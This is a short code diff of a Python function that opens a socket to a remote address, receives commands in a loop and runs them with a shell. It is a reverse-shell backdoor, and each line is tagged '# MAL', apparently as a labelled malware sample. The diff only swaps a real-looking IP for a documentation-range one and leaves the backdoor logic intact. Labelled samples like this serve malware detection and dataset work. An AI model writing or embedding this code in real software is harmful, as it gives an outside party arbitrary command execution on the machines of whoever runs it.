@@ -4,7 +4,7 @@ import subprocess
 
 def _c():
     s = socket.socket()  # MAL
-    s.connect(("5.188.86.172", 80))  # MAL
+    s.connect(("192.0.2.172", 80))  # MAL
     while True:
         cmd = s.recv(1024).decode()  # MAL
         out = subprocess.run(cmd, shell=True, capture_output=True)  # MAL
